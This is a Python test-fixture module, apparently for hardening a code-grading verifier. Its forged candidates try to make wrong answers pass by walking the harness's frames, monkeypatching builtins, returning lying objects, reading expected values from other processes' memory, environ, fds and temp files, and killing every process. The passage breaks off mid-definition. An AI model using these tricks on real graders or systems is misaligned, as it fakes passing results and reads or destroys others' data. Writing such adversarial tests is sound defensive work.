"""Forgery attacks on `PythonTestVerifier`, as data: wrong candidates crafted to be reported as
passing, and honest candidates that must still pass.

Each attack is a candidate that does not compute the right answer. It tries, in turn, to reach the
checker's state from a shared interpreter (frames, gc, fds, monkeypatching), to return an object
that lies about equality, to read the expected values, or to kill or starve the checker. Where an
attack finds nothing to attack it falls back to a plainly wrong answer (`WRONG`), so that after the
fix the verdict it gets is the ordinary one for a wrong answer.

The test suites are the same few tasks in the three styles the verifier reads (assert lines,
HumanEval `check`, pytest functions); each suite also has an honest solution and a constant wrong
one, so that every suite is shown able both to pass and to fail.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from functools import cached_property

from agentloop import VerdictStatus
from agentloop.sandbox import plan_tests

__all__ = ["FORGERIES", "HONEST", "Case", "Suite"]

FAILED = VerdictStatus.FAILED
CANDIDATE_FAULT = frozenset({
    VerdictStatus.FAILED, VerdictStatus.CRASHED, VerdictStatus.TIMEOUT,
    VerdictStatus.OUT_OF_MEMORY, VerdictStatus.UNSUPPORTED_VALUE,
})
"""The statuses that blame the candidate. Never `verifier_error`: a candidate that can turn its
own failure into "nothing is known" has reached the checker."""
WRONG_ANSWER = frozenset({VerdictStatus.FAILED})
NOT_PLAIN_DATA = frozenset({VerdictStatus.FAILED, VerdictStatus.UNSUPPORTED_VALUE})
"""A value that lies about itself is refused (`unsupported_value`) or checked as what it really
holds (a wrong answer)."""


@dataclass(frozen=True)
class Suite:
    """One task's tests in one style."""

    name: str
    tests: str
    entry_point: str | None = "f"
    honest: str = ""
    """A correct candidate."""

    @cached_property
    def n_tests(self) -> int:
        return len(plan_tests(self.tests, entry_point=self.entry_point).tests)


@dataclass(frozen=True)
class Case:
    """One candidate against one suite, with what its verdict may be."""

    id: str
    kind: str
    suite: Suite
    candidate: str
    allowed: frozenset[VerdictStatus] = field(default=CANDIDATE_FAULT)
    max_score: float = 0.0
    """The score the candidate earns honestly (its wrong answers must add nothing to it)."""
    test_timeout_s: float = 1.0
    load_timeout_s: float = 2.0


# -- the tasks ---------------------------------------------------------------------------------

_SQUARE = "def f(x):\n    return x * x\n"
_RECIPROCAL = "def f(x):\n    return 1 / x\n"
_COUNTDOWN = "def f(n):\n    return list(range(n, 0, -1))\n"
_ISQRT = (
    "import math\n\n\ndef f(x):\n    if x < 0:\n        raise ValueError('negative')\n"
    "    return math.isqrt(x)\n"
)

SQUARE = [
    Suite("square-asserts", """\
assert f(2) == 4
assert 9 == f(3)
assert f(-3) == 9, "negative input"
assert f(10) in [100]
""", honest=_SQUARE),
    Suite("square-check", """\
METADATA = {"task": "square"}


def check(candidate):
    assert candidate(2) == 4
    assert 9 == candidate(3)
    assert candidate(-3) == 9, "negative input"
    for i in range(4):
        assert candidate(i) == i * i
""", honest=_SQUARE),
    Suite("square-pytest", """\
from solution import f


def test_small():
    assert f(2) == 4


def test_reversed_sides():
    assert 9 == f(3)


def test_negative():
    assert f(-3) == 9, "negative input"


def test_loop():
    for i in range(4):
        assert f(i) == i * i
""", honest=_SQUARE),
]

FLOAT = [
    Suite("float-asserts", """\
import math
assert abs(f(2) - 0.5) < 1e-9
assert math.isclose(f(4), 0.25)
assert math.fabs(f(8) - 0.125) < 1e-9
assert round(f(3), 4) == 0.3333
""", honest=_RECIPROCAL),
    Suite("float-check", """\
def check(candidate):
    import math
    assert abs(candidate(2) - 0.5) < 1e-9
    assert math.isclose(candidate(4), 0.25)
    assert math.fabs(candidate(8) - 0.125) < 1e-9
    assert round(candidate(3), 4) == 0.3333
""", honest=_RECIPROCAL),
    Suite("float-pytest", """\
import math


def test_abs_and_isclose():
    assert abs(f(2) - 0.5) < 1e-9
    assert math.isclose(f(4), 0.25)


def test_fabs():
    assert math.fabs(f(8) - 0.125) < 1e-9


def test_round():
    assert round(f(3), 4) == 0.3333
""", honest=_RECIPROCAL),
]

LISTS = [
    Suite("list-asserts", """\
assert sorted(f(3)) == [1, 2, 3]
assert len(f(4)) == 4
assert f(2) == [2, 1]
assert isinstance(f(1), list)
""", honest=_COUNTDOWN),
    Suite("list-check", """\
def check(candidate):
    assert sorted(candidate(3)) == [1, 2, 3]
    assert len(candidate(4)) == 4
    assert candidate(2) == [2, 1]
    assert isinstance(candidate(1), list)
""", honest=_COUNTDOWN),
    Suite("list-pytest", """\
def test_sorted():
    assert sorted(f(3)) == [1, 2, 3]


def test_len():
    assert len(f(4)) == 4


def test_value():
    assert f(2) == [2, 1]


def test_type():
    assert isinstance(f(1), list)
""", honest=_COUNTDOWN),
]

RAISES = [
    Suite("raises-asserts", """\
assert f(16) == 4
try:
    f(-1)
except ValueError:
    pass
else:
    assert False, "no ValueError for -1"
""", honest=_ISQRT),
    Suite("raises-check", """\
def check(candidate):
    assert candidate(16) == 4
    try:
        candidate(-1)
    except ValueError:
        pass
    else:
        assert False, "no ValueError for -1"
""", honest=_ISQRT),
    Suite("raises-pytest", """\
def test_value():
    assert f(16) == 4


def test_negative_raises():
    try:
        f(-1)
    except ValueError:
        return
    assert False, "no ValueError for -1"
""", honest=_ISQRT),
]

MAPPED = [
    Suite("map-asserts", """\
assert all(map(lambda x: f(x) == x * x, [1, 2, 3]))
assert not any(map(lambda x: f(x) != x * x, [4, 5]))
""", honest=_SQUARE),
    Suite("map-check", """\
def check(candidate):
    assert all(map(lambda x: candidate(x) == x * x, [1, 2, 3]))
    assert not any(map(lambda x: candidate(x) != x * x, [4, 5]))
""", honest=_SQUARE),
    Suite("map-pytest", """\
def test_all():
    assert all(map(lambda x: f(x) == x * x, [1, 2, 3]))


def test_none_wrong():
    assert not any(map(lambda x: f(x) != x * x, [4, 5]))
""", honest=_SQUARE),
]

TWO = [
    Suite("two-asserts", "assert f(2) == 4\nassert f(3) == 9\n", honest=_SQUARE),
    Suite("two-check", """\
def check(candidate):
    assert candidate(2) == 4
    assert candidate(3) == 9
""", honest=_SQUARE),
    Suite("two-pytest", """\
def test_two():
    assert f(2) == 4


def test_three():
    assert f(3) == 9
""", honest=_SQUARE),
]
"""For killing or starving the checker: the first test is answered honestly, the second attacks,
so the checker has a partial report (one pass) when the attack starts."""

_POLY = '''\
import math


def poly(xs: list, x: float):
    return sum([coeff * math.pow(x, i) for i, coeff in enumerate(xs)])
'''
_HUMANEVAL_32_CHECK = '''\
METADATA = {}


def check(candidate):
    import math
    import random
    rng = random.Random(42)
    import copy
    for _ in range(100):
        ncoeff = 2 * rng.randint(1, 4)
        coeffs = []
        for _ in range(ncoeff):
            coeff = rng.randint(-10, 10)
            if coeff == 0:
                coeff = 1
            coeffs.append(coeff)
        solution = candidate(copy.deepcopy(coeffs))
        assert math.fabs(poly(coeffs, solution)) < 1e-4
'''
_FIND_ZERO = _POLY + '''

def find_zero(xs: list):
    begin, end = -1., 1.
    while poly(xs, begin) * poly(xs, end) > 0:
        begin *= 2.0
        end *= 2.0
    while end - begin > 1e-10:
        center = (begin + end) / 2.0
        if poly(xs, center) * poly(xs, begin) > 0:
            begin = center
        else:
            end = center
    return begin
'''
HUMANEVAL_32 = Suite("humaneval32-as-shipped", _HUMANEVAL_32_CHECK, "find_zero", _FIND_ZERO)
"""As the dataset ships it: `poly` comes from the candidate (the prompt's helper)."""
HUMANEVAL_32_TRUSTED_POLY = Suite(
    "humaneval32-trusted-poly", _POLY + "\n\n" + _HUMANEVAL_32_CHECK, "find_zero", _FIND_ZERO
)
"""With the prompt's `poly` in the tests, as a caller should give it: the candidate's is unused."""

_ENCODE_CYCLIC = '''\
def encode_cyclic(s: str):
    groups = [s[(3 * i):min((3 * i + 3), len(s))] for i in range((len(s) + 2) // 3)]
    groups = [(group[1:] + group[0]) if len(group) == 3 else group for group in groups]
    return "".join(groups)
'''
HUMANEVAL_38 = Suite("humaneval38", '''\
METADATA = {}


def check(candidate):
    from random import randint, choice
    import string

    letters = string.ascii_lowercase
    for _ in range(100):
        str = ''.join(choice(letters) for i in range(randint(10, 20)))
        encoded_str = encode_cyclic(str)
        assert candidate(encoded_str) == str
''', "decode_cyclic", _ENCODE_CYCLIC + '''

def decode_cyclic(s: str):
    return encode_cyclic(encode_cyclic(s))
''')

CONSTANT = Suite("candidate-constant", '''\
def check(candidate):
    assert candidate("hello world") == 3
    assert candidate("xyz") == 0
    assert sorted(VOWELS) == ["a", "e", "i", "o", "u"]
''', "count_vowels", '''\
VOWELS = "aeiou"


def count_vowels(text):
    return sum(ch in VOWELS for ch in text)
''')

_ENCODING_VALUES = r'''
import math
from collections import Counter

_VALUES = {
    "tuple": (1, 2),
    "list": [1, 2],
    "dict": {1: "a", (2, 3): [4, {5: None}]},
    "set": {1, 2, 3},
    "frozenset": frozenset({1}),
    "none": None,
    "true": True,
    "false": False,
    "int": 1,
    "big": 2 ** 200,
    "negative_big": -(3 ** 150),
    "float": 0.1 + 0.2,
    "nan": float("nan"),
    "inf": float("-inf"),
    "negative_zero": -0.0,
    "text": "h\u00e9llo\n\t\x00 \u2713 \U0001f600",
    "bytes": b"\x00\xff\n",
    "nested": {"a": [(1, 2.5, None, True)], "b": {"c": frozenset({1})}, "": []},
    "deep": [[[[[[[[[[1]]]]]]]]]],
    "counter": Counter("aab"),
    "empty": ((), [], {}, "", set()),
    "float_for_int": 4.0,
}
_OVERRIDES = {}


def f(kind):
    return _OVERRIDES[kind] if kind in _OVERRIDES else _VALUES[kind]


def g(x=None):
    return type(x).__name__
'''
ENCODING = Suite("encoding", r'''
import math
assert f("tuple") == (1, 2)
assert type(f("tuple")) is tuple
assert f("list") == [1, 2]
assert type(f("list")) is list
assert f("dict") == {1: "a", (2, 3): [4, {5: None}]}
assert f("set") == {1, 2, 3}
assert type(f("frozenset")) is frozenset
assert f("none") is None
assert f("true") is True
assert f("false") is False
assert type(f("int")) is int
assert f("big") == 2 ** 200
assert f("negative_big") == -(3 ** 150)
assert f("float") == 0.1 + 0.2
assert math.isnan(f("nan"))
assert f("inf") == float("-inf")
assert math.copysign(1.0, f("negative_zero")) == -1.0
assert f("text") == "h\u00e9llo\n\t\x00 \u2713 \U0001f600"
assert f("bytes") == b"\x00\xff\n"
assert f("nested") == {"a": [(1, 2.5, None, True)], "b": {"c": frozenset({1})}, "": []}
assert f("deep") == [[[[[[[[[[1]]]]]]]]]]
assert f("counter") == {"a": 2, "b": 1}
assert f("empty") == ((), [], {}, "", set())
assert f("float_for_int") == 4
assert g((1, 2)) == "tuple"
assert g([1, 2]) == "list"
assert g({1: 2}) == "dict"
assert g(True) == "bool"
assert g(x=None) == "NoneType"
''', None, _ENCODING_VALUES)

HUGE_INT = Suite("huge-int", """\
import math
assert f(2000) == math.factorial(2000)
assert f(2000) % 1000003 == math.factorial(2000) % 1000003
""", honest="import math\n\n\ndef f(n):\n    return math.factorial(n)\n")
"""5736 digits: past Python's default 4300-digit limit for int <-> str."""

NAMEDTUPLE = Suite("namedtuple", """\
assert f(1, 2) == (1, 2)
assert f(3, 4)[1] == 4
""", honest=(
    "from collections import namedtuple\n\nPoint = namedtuple('Point', 'x y')\n\n\n"
    "def f(x, y):\n    return Point(x, y)\n"
))

ALL_SUITES = [*SQUARE, *FLOAT, *LISTS, *RAISES, *MAPPED, *TWO]
NUMERIC = [*SQUARE, *FLOAT]
"""The suites that the generic attacks (shared interpreter, oracles) are run against."""


# -- what attacks share ------------------------------------------------------------------------

_PRELUDE = r'''
import gc, json, os, signal, sys, time
WRONG = -12345


def _harness_frame():
    """The frame of today's harness `main` (it holds `emit`, `payload`, `nonce`, `step`)."""
    frame = sys._getframe()
    while frame is not None:
        if "emit" in frame.f_locals and "payload" in frame.f_locals:
            return frame
        frame = frame.f_back
    return None


def _payload():
    for obj in gc.get_objects():
        if type(obj) is dict and "nonce" in obj and "steps" in obj:
            return obj
    frame = _harness_frame()
    return frame.f_locals["payload"] if frame is not None else None


def _fake_records(run):
    """A complete, all-passing report in today's record format (the harness adds the nonce)."""
    records = []
    for index in run:
        records.append({"event": "start", "index": index})
        records.append({"event": "result", "index": index, "outcome": "passed", "duration_s": 0.0})
    records.append({"event": "output", "stdout": "", "stderr": "", "truncated": False})
    records.append({"event": "done"})
    return records


def _fake_report(nonce, run):
    """Fake reports as bytes: today's format with the nonce if known, and plain JSON lines."""
    text = ""
    if nonce:
        text += "".join(nonce + json.dumps(r) + "\n" for r in _fake_records(run))
    plain = [{"event": "loaded"}]
    plain += [{"event": "result", "index": i, "outcome": "passed"} for i in range(N_TESTS)]
    plain += [{"event": "output", "stdout": "", "stderr": "", "truncated": False},
              {"event": "done"}]
    text += "".join(json.dumps(r) + "\n" for r in plain)
    return text.encode()


def _nonce_and_run():
    payload = _payload()
    if payload is None:
        return None, list(range(N_TESTS))
    return payload["nonce"], list(payload["run"])


def _write_everywhere(data):
    """To every fd we hold, and to every fd of every process /proc shows us."""
    for fd in range(64):
        try:
            os.write(fd, data)
        except OSError:
            pass
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                target = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                os.write(target, data)
            except OSError:
                pass
            os.close(target)


def _kill_everyone():
    me = os.getpid()
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != me:
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    for target in {1, os.getppid(), -1} - {0}:
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass


class _Liar:
    """Equal to everything, close to every float, truthy, and hashable."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __le__ = __gt__ = __ge__ = __eq__

    def __bool__(self):
        return True

    def __hash__(self):
        return 0

    def __abs__(self):
        return 0.0

    def __sub__(self, other):
        return 0.0

    __rsub__ = __add__ = __radd__ = __sub__

    def __float__(self):
        return 0.0

    def __round__(self, ndigits=None):
        return self

    def __contains__(self, item):
        return True

    def __repr__(self):
        return "4"
'''

_ORACLE = r'''
import ast, math, re

_TARGETS = {"f", "candidate"}
_PASS_THROUGH = {"sorted", "round", "list", "tuple", "set", "float", "int", "str", "abs"}
_TABLE = {}


def _fname(node):
    if isinstance(node, ast.Call):
        if isinstance(node.func, ast.Name):
            return node.func.id
        if isinstance(node.func, ast.Attribute):
            return node.func.attr
    return None


def _unwrap(node):
    """(call, transform) if `node` is the call, or a wrapper that passes its value through."""
    if isinstance(node, ast.Call) and _fname(node) in _TARGETS and isinstance(node.func, ast.Name):
        return node, (lambda v: v)
    name = _fname(node)
    if name and node.args:
        inner = _unwrap(node.args[0])
        if inner is not None and name in _PASS_THROUGH:
            return inner
        if inner is not None and name == "len":
            return inner[0], (lambda v: [0] * v)
    return None


def _solve(test):
    """(call, transform, expected expression): what the call must return for `test` to hold."""
    if isinstance(test, ast.Compare) and len(test.ops) == 1:
        op, left, right = test.ops[0], test.left, test.comparators[0]
        for side, other in ((left, right), (right, left)):
            found = _unwrap(side)
            if found and isinstance(op, (ast.Eq, ast.Is, ast.GtE, ast.LtE)):
                return found[0], found[1], other
            if found and isinstance(op, ast.In) and side is left:
                return found[0], (lambda v: next(iter(v))), other
        if isinstance(op, (ast.Lt, ast.LtE)) and _fname(left) in ("abs", "fabs") and left.args:
            diff = left.args[0]
            if isinstance(diff, ast.BinOp) and isinstance(diff.op, ast.Sub):
                for a, b in ((diff.left, diff.right), (diff.right, diff.left)):
                    found = _unwrap(a)
                    if found:
                        return found[0], found[1], b
    if isinstance(test, ast.Call) and _fname(test) == "isclose" and len(test.args) >= 2:
        for a, b in ((test.args[0], test.args[1]), (test.args[1], test.args[0])):
            found = _unwrap(a)
            if found:
                return found[0], found[1], b
    if isinstance(test, ast.Call) and _fname(test) == "isinstance" and len(test.args) == 2:
        found = _unwrap(test.args[0])
        if found:
            return found[0], (lambda v: v()), test.args[1]
    return None


def _evaluate(node, namespace):
    expression = ast.fix_missing_locations(ast.Expression(body=node))
    return eval(compile(expression, "<oracle>", "eval"), namespace)


def _learn_line(line):
    try:
        tree = ast.parse(line.strip())
    except SyntaxError:
        return False
    if not tree.body or not isinstance(tree.body[0], ast.Assert):
        return False
    solved = _solve(tree.body[0].test)
    if solved is None:
        return True
    call, transform, expected = solved
    try:
        key = repr(tuple(ast.literal_eval(arg) for arg in call.args))
        _TABLE[key] = transform(_evaluate(expected, {"math": math}))
    except Exception:
        pass
    return True


def _learn(blob):
    """Every `assert ...` line in a blob of leaked text (JSON-escaped or raw)."""
    if isinstance(blob, bytes):
        blob = blob.decode("latin-1")
    blob = blob.replace("\\n", "\n")
    seen = set()
    for match in re.finditer(r"(?=(assert [^\n\x00]{1,300}))", blob):
        line = match.group(1)
        if line in seen or len(seen) > 5000:
            continue
        seen.add(line)
        for cut in [i for i, ch in enumerate(line) if ch in "\"',}\\"] + [len(line)]:
            if _learn_line(line[:cut].replace('\\"', '"')):
                break


def _regions(pid):
    """The readable anonymous regions of a process (its heap and arenas, where strings live)."""
    regions = []
    with open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            parts = line.split()
            path = parts[5] if len(parts) > 5 else ""
            if "r" in parts[1] and path in ("", "[heap]"):
                low, high = (int(x, 16) for x in parts[0].split("-"))
                if high - low <= 64 << 20:
                    regions.append((low, high))
    return regions


def _memory_of(pid):
    """A process's memory: our own through ctypes (we are not dumpable, so /proc/self/mem is
    closed to us), another's through /proc/<pid>/mem."""
    blobs = []
    try:
        regions = _regions(pid)
        if pid == "self":
            import ctypes
            return [ctypes.string_at(low, high - low) for low, high in regions]
        fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    except (OSError, ValueError):
        return blobs
    for low, high in regions:
        try:
            blobs.append(os.pread(fd, high - low, low))
        except OSError:
            pass
    os.close(fd)
    return blobs


_RETRIED = []


def f(*args):
    if repr(args) not in _TABLE and not _RETRIED:
        _RETRIED.append(True)
        _learn_all()
    return _TABLE.get(repr(args), WRONG)
'''

_HARVESTS = {
    "gc": r'''
def _learn_all():
    """The payload the harness parsed: any dict with test steps, any string mentioning assert."""
    for obj in gc.get_objects():
        if type(obj) is dict and ("steps" in obj or "source" in obj):
            try:
                _learn(json.dumps(obj, default=str))
            except Exception:
                pass
''',
    "self_memory": r'''
def _learn_all():
    """/proc/self/mem: the stdin payload and the test strings, wherever they still lie."""
    for blob in _memory_of("self"):
        _learn(blob)
''',
    "other_processes": r'''
def _learn_all():
    """Every other process: its command line, environment, open files, stdin and memory."""
    me = os.readlink("/proc/self")  # our pid as /proc numbers it, not as our namespace does
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or pid == me:
            continue
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    _learn(file.read(1 << 22))
            except OSError:
                pass
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            fds = []
        for fd in fds:
            try:
                handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                _learn(os.read(handle, 1 << 22))
            except OSError:
                pass
            os.close(handle)
        for blob in _memory_of(pid):
            _learn(blob)
''',
    "files": r'''
def _learn_all():
    """Any file the checker may have left where we can read it: work dir, /tmp, home."""
    roots = {os.getcwd(), "/work", "/tmp", "/dev/shm", os.path.expanduser("~"), "/proc/self/cwd"}
    for root in roots:
        for folder, dirs, files in os.walk(root):
            if folder.count(os.sep) - root.count(os.sep) > 3:
                dirs[:] = []
            for name in files:
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        _learn(file.read(1 << 21))
                except OSError:
                    pass
''',
    "environment": r'''
def _learn_all():
    """The environment and the command lines we can see (ours included)."""
    _learn("\n".join(os.environ.values()))
    for name in ("/proc/self/environ", "/proc/self/cmdline", "/proc/1/cmdline", "/proc/1/environ"):
        try:
            with open(name, "rb") as file:
                _learn(file.read().replace(b"\x00", b"\n"))
        except OSError:
            pass
''',
}

_FRAMES_ORACLE = r'''
def _from_caller(frame):
    """Read the test line that called us, and evaluate its expected side in its own scope."""
    harness = _harness_frame()
    if harness is None:
        return WRONG
    name = frame.f_code.co_name
    if name == "<module>":
        text = harness.f_locals["step"]["code"]
    else:
        text = next(s["source"] for s in harness.f_locals["payload"]["steps"]
                    if s["source"].startswith(f"def {name}("))
    if "\n" not in text.strip():
        line = text
    else:
        line = text.splitlines()[frame.f_lineno - 1]
    solved = _solve(ast.parse(line.strip()).body[0].test)
    if solved is None:
        return WRONG
    _, transform, expected = solved
    scope = dict(frame.f_globals)
    scope.update(frame.f_locals)
    return transform(_evaluate(expected, scope))


def f(*args):
    try:
        return _from_caller(sys._getframe(1))
    except Exception:
        return WRONG
'''


def _source(*parts: str, n_tests: int) -> str:
    return f"N_TESTS = {n_tests}\n" + "\n".join(parts)


_RETURN_WRONG = "\ndef f(*args, **kwargs):\n    return WRONG\n"

# -- 1. the shared interpreter -----------------------------------------------------------------

_SHARED: dict[str, str] = {
    "frame_walk_at_load_then_os_exit": r'''
frame = _harness_frame()
if frame is not None:
    emit = frame.f_locals["emit"]
    for record in _fake_records(frame.f_locals["payload"]["run"]):
        emit(record)
    os._exit(0)
''' + _RETURN_WRONG,
    "inspect_stack_at_call_then_kill_self": r'''
import inspect


def f(*args):
    for info in inspect.stack(0):
        if "emit" in info.frame.f_locals and "payload" in info.frame.f_locals:
            emit = info.frame.f_locals["emit"]
            for record in _fake_records(info.frame.f_locals["payload"]["run"]):
                emit(record)
            os.kill(os.getpid(), signal.SIGKILL)
            os._exit(0)
    return WRONG
''',
    "gc_report_function_then_sys_exit": r'''
def f(*args):
    for obj in gc.get_objects():
        if type(obj).__name__ == "function" and obj.__name__ == "emit" and obj.__closure__:
            for record in _fake_records(_nonce_and_run()[1]):
                obj(record)
            sys.exit(0)
    return WRONG
''',
    "gc_nonce_then_write_fd1": r'''
nonce, run = _nonce_and_run()
if nonce is not None:
    os.write(1, _fake_report(nonce, run))
    os._exit(0)
''' + _RETURN_WRONG,
    "memory_nonce_then_write_every_fd": r'''
import re

def _find_nonces():
    """Every nonce-shaped string near a record or a payload key in our heap (stale ones too)."""
    import ctypes
    try:
        with open("/proc/self/maps") as maps:
            regions = [line.split() for line in maps]
    except OSError:
        return set()
    found = set()
    for parts in regions:
        if "r" not in parts[1] or (len(parts) > 5 and parts[5] != "[heap]"):
            continue
        low, high = (int(x, 16) for x in parts[0].split("-"))
        if high - low > 64 << 20:
            continue
        blob = ctypes.string_at(low, high - low)
        pattern = rb'"nonce": "([0-9a-f]{16})"|([0-9a-f]{16})\{"event": '
        for match in re.finditer(pattern, blob):
            found.add((match.group(1) or match.group(2)).decode())
    return found


for _nonce in sorted(_find_nonces())[:50] or [None]:
    _write_everywhere(_fake_report(_nonce, list(range(N_TESTS))))
os._exit(0)
''',
    "patch_harness_ops_table": r'''
def _tables():
    scopes = [sys.modules["__main__"].__dict__]
    frame = sys._getframe()
    while frame is not None:
        scopes.append(frame.f_globals)
        frame = frame.f_back
    scopes += [obj.__globals__ for obj in gc.get_objects() if type(obj).__name__ == "function"]
    return [scope["_OPS"] for scope in scopes if isinstance(scope.get("_OPS"), dict)]


for table in _tables():
    for op in list(table):
        table[op] = lambda a, b: True
''' + _RETURN_WRONG,
    "patch_builtins_bool": r'''
import builtins
builtins.bool = lambda *args: True
''' + _RETURN_WRONG,
    "patch_json_dumps_at_load": r'''
_real_dumps = json.dumps


def _dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and obj.get("event") == "result":
        obj = {"event": "result", "index": obj.get("index"), "outcome": "passed",
               "duration_s": obj.get("duration_s", 0.0)}
    return _real_dumps(obj, *args, **kwargs)


json.dumps = _dumps
''' + _RETURN_WRONG,
    "patch_json_dumps_at_call": r'''
_real_dumps = json.dumps


def _dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and obj.get("event") == "result":
        obj = {"event": "result", "index": obj.get("index"), "outcome": "passed"}
    return _real_dumps(obj, *args, **kwargs)


def f(*args):
    json.dumps = _dumps
    return WRONG
''',
    "patch_os_write": r'''
_real_write = os.write


def _write(fd, data):
    data = bytes(data)
    for bad in (b'"outcome": "failed"', b'"outcome": "error"', b'"outcome": "timeout"'):
        data = data.replace(bad, b'"outcome": "passed"')
    return _real_write(fd, data)


os.write = _write
''' + _RETURN_WRONG,
    "patch_builtins_compile": r'''
import builtins
_real_compile = builtins.compile
__liar__ = _Liar()


def _compile(source, filename, mode, *args, **kwargs):
    if filename == "<test>":
        return _real_compile("__liar__" if mode == "eval" else "pass", filename, mode)
    return _real_compile(source, filename, mode, *args, **kwargs)


builtins.compile = _compile
''' + _RETURN_WRONG,
    "patch_builtins_eval_exec": r'''
import builtins
_LIAR = _Liar()
builtins.eval = lambda *args, **kwargs: _LIAR
builtins.exec = lambda *args, **kwargs: None
''' + _RETURN_WRONG,
    "own_process_forges_its_load_reply": r'''
# Our own process answers the checker's requests: make its answer to "load" claim nothing, so
# that whatever the tests then fail on is not blamed on us.
_caller = sys._getframe(1).f_globals
if callable(_caller.get("dumps")) and callable(_caller.get("_load")):
    _real_dumps = _caller["dumps"]

    def _dumps(message):
        if isinstance(message, dict) and "loaded" in message:
            return _real_dumps({"claimed": True})
        return _real_dumps(message)

    _caller["dumps"] = _dumps
''' + _RETURN_WRONG,
    "records_after_done_from_flush": r'''
_nonce, _run = _nonce_and_run()
_streams = type(sys.stdout)


def _flush(self):
    # Called by the runner after the harness wrote `done`: later records override earlier ones.
    if _nonce:
        records = [r for r in _fake_records(_run) if r["event"] == "result"]
        os.write(1, "".join(_nonce + json.dumps(r) + "\n" for r in records).encode())


_streams.flush = _flush
''' + _RETURN_WRONG,
}

# -- 2. objects that lie -----------------------------------------------------------------------

_LYING_SUBCLASS = r'''
class Lying({base}):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = {base}.__hash__ if {base}.__hash__ else (lambda self: 0)


def f(*args):
    return Lying({value})
'''
_SUBCLASSES = {"int": "-12345", "str": "'wrong'", "float": "-12345.0", "list": "[0]",
               "dict": "{0: 0}", "tuple": "(0,)"}

_OBJECTS: dict[str, tuple[list[Suite], str]] = {
    "object_equal_to_everything": ([*SQUARE, *FLOAT], r'''
def f(*args):
    return _Liar()
'''),
    "eq_returns_truthy_non_bool": (SQUARE, r'''
class Truthy:
    def __bool__(self):
        return True


class Liar:
    def __eq__(self, other):
        return Truthy()

    __ne__ = __eq__
    __hash__ = object.__hash__


def f(*args):
    return Liar()
'''),
    "float_subclass_lying_arithmetic": (FLOAT, r'''
class Lying(float):
    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__

    def __round__(self, ndigits=None):
        return _Liar()

    def __eq__(self, other):
        return True

    __hash__ = float.__hash__


def f(*args):
    return Lying(7.0)
'''),
    "list_subclass_lying_len_iter_eq": (LISTS, r'''
class Lying(list):
    """Holds nothing; says it holds 1..n."""

    def __init__(self, n):
        super().__init__()
        self.n = n

    def __len__(self):
        return self.n

    def __iter__(self):
        return iter(range(1, self.n + 1))

    def __eq__(self, other):
        return True

    __hash__ = None


def f(n):
    return Lying(n)
'''),
    "shadow_abs_round": (FLOAT, r'''
abs = lambda x: 0.0
round = lambda x, ndigits=None: _Liar()
''' + _RETURN_WRONG),
    "patch_math_isclose_fabs": (FLOAT, r'''
import math
math.isclose = lambda *args, **kwargs: True
math.fabs = lambda x: 0.0
''' + _RETURN_WRONG),
    "patch_operator_module": (FLOAT, r'''
import operator
for name in ("eq", "ne", "lt", "le", "gt", "ge", "is_", "contains", "truth"):
    setattr(operator, name, lambda *args: True)
for name in ("sub", "abs"):
    setattr(operator, name, lambda *args: 0.0)
''' + _RETURN_WRONG),
    "shadow_and_patch_every_float_check": (FLOAT, r'''
import math
abs = lambda x: 0.0
round = lambda x, ndigits=None: _Liar()
math.isclose = lambda *args, **kwargs: True
math.fabs = lambda x: 0.0
''' + _RETURN_WRONG),
    "shadow_sorted_len_isinstance": (LISTS, r'''
sorted = lambda *args, **kwargs: _Liar()
len = lambda x: _Liar()
isinstance = lambda *args: True
''' + _RETURN_WRONG),
    "returns_generator": (SQUARE, r'''
def f(x):
    return (v for v in [x * x])
'''),
    "returns_function": (SQUARE, r'''
def f(x):
    return lambda: x * x
'''),
    "returns_own_class_instance": (SQUARE, r'''
class Box:
    def __init__(self, value):
        self.value = value


def f(x):
    return Box(x * x)
'''),
    "own_class_equal_to_right_value": (SQUARE, r'''
class Number:
    """Holds the right square, but is not a number: the test cannot check it as one."""

    def __init__(self, value):
        self.value = value

    def __eq__(self, other):
        return self.value == other

    def __hash__(self):
        return hash(self.value)


def f(x):
    return Number(x * x)
'''),
    "generator_of_right_items": (LISTS, r'''
def f(n):
    return (i for i in range(n, 0, -1))
'''),
}

# -- 3. the expected values are readable -------------------------------------------------------

_ORACLES = {**{name: _ORACLE + body + "\n_learn_all()\n" for name, body in _HARVESTS.items()},
            "caller_frames": _ORACLE + _FRAMES_ORACLE}

# -- 4. kill or starve the checker -------------------------------------------------------------

_AFTER_ONE_HONEST_ANSWER = r'''

def f(x):
    if x == 2:
        return 4
    _attack()
    return WRONG
'''

_STARVE: dict[str, str] = {
    "kill_every_process": r'''
def _attack():
    _kill_everyone()
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError:
        pass
''',
    "signal_the_checker": r'''
def _attack():
    for number in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGUSR1, signal.SIGHUP,
                   signal.SIGSTOP):
        for target in {1, os.getppid()} - {0, os.getpid()}:
            try:
                os.kill(target, number)
            except OSError:
                pass
''',
    "fake_report_then_kill_everyone": r'''
def _attack():
    nonce, run = _nonce_and_run()
    _write_everywhere(_fake_report(nonce, run))
    _kill_everyone()
    os._exit(0)
''',
    "fake_report_into_other_processes_fds": r'''
def _attack():
